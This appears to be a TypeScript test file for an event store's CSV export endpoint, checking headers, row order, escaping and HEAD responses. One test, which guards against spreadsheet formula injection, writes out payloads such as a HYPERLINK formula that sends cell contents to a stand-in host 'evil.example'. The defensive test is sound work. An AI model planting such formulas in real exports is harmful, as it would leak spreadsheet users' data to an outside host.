import { expect } from 'chai';
import type { RecordedEvent } from '../../src/events/event.ts';
import { cellsIn } from '../support/csv-cells.ts';
import { eventsPath, type Parameters } from '../support/event-pages.ts';
import { anAggregate, anEvent, someEvents } from '../support/examples.ts';
import { servedStore } from '../support/served-store.ts';

const HEADER = [
  ...['position', 'timestamp', 'aggregateType', 'aggregateId', 'sequenceNumber', 'eventType'],
  ...['eventId', 'userId', 'correlationId', 'causationId', 'version'],
  ...['storedVersion', 'tags', 'data', 'metadata', 'hash'],
];

describe('GET /v1/events as CSV', () => {
  const { store, ask } = servedStore();

  before(async () => {
    for (let batch = 0; batch < 3; batch += 1) await store().append(someEvents(500));
  });

  async function csv(parameters: Parameters = {}): Promise<string> {
    const { status, headers, bytes } = await ask('GET', eventsPath(parameters), {
      Accept: 'text/csv',
    });
    expect(status).to.equal(200);
    expect(headers.get('content-type')).to.equal('text/csv; charset=utf-8');
    return bytes.toString();
  }

  it('has a header, and a row for each event of the whole result', async () => {
    const [header, ...rows] = cellsIn(await csv());
    expect(header).to.deep.equal(HEADER);
    const recorded = await store().readLog().toArray();
    expect(recorded.length).to.be.greaterThan(1_000);
    expect(rows).to.deep.equal(recorded.map(cellsOf));
  });

  it('has the events that are asked for, in their order', async () => {
    const parameters = { fromPosition: 10, order: 'desc', limit: 3 } as const;
    const [, ...rows] = cellsIn(await csv(parameters));
    expect(rows).to.deep.equal((await store().readLog(parameters).toArray()).map(cellsOf));
  });

  it('has the header alone where nothing is found', async () => {
    expect(await csv({ tag: 'never-seen' })).to.equal(`${HEADER.join(',')}\r\n`);
  });

  it('says any text as it is', async () => {
    const odd = 'a,b;"c"\'d Δv — 🛰️ ä&<b>\\';
    const aggregate = { ...anAggregate(), aggregateId: odd };
    const data = { text: 'line\r\nbreak, "quoted"\ttab', '=name': ['=1+1', null, -1.5e300] };
    const fields = { eventType: odd, userId: odd, correlationId: odd, causationId: odd };
    const event = anEvent({ ...aggregate, ...fields, data, metadata: {}, tags: [odd, '=x'] });
    const { events } = await store().append([event]);
    const [, ...rows] = cellsIn(await csv({ aggregateId: odd }));
    expect(rows).to.deep.equal(events.map(cellsOf));
    expect(JSON.parse(rows[0]?.[HEADER.indexOf('data')] ?? '')).to.deep.equal(data);
  });

  it('holds nothing that a spreadsheet would take for a formula', async () => {
    for (const start of ['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
      const formula = `${start}HYPERLINK("https://evil.example?"&A1)`;
      const aggregate = { aggregateType: 'Mission', aggregateId: formula };
      await store().append([anEvent({ ...aggregate, eventType: formula, userId: formula })]);
      const [, ...rows] = cellsIn(await csv({ aggregateId: formula }));
      expect(rows).to.have.length(1);
      const shown = ['aggregateId', 'eventType', 'userId'].map((name) => HEADER.indexOf(name));
      for (const index of shown) expect(rows[0]?.[index]).to.equal(`'${formula}`);
    }
  });

  it('answers HEAD with its headers alone', async () => {
    const answer = await ask('HEAD', eventsPath(), { Accept: 'text/csv' });
    expect(answer.status).to.equal(200);
    expect(answer.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
    expect(answer.bytes.length).to.equal(0);
  });
});

function cellsOf(event: RecordedEvent): readonly string[] {
  return HEADER.map((name) => {
    const value = event[name as keyof RecordedEvent] ?? '';
    return typeof value === 'object' ? JSON.stringify(value) : String(value);
  });
}
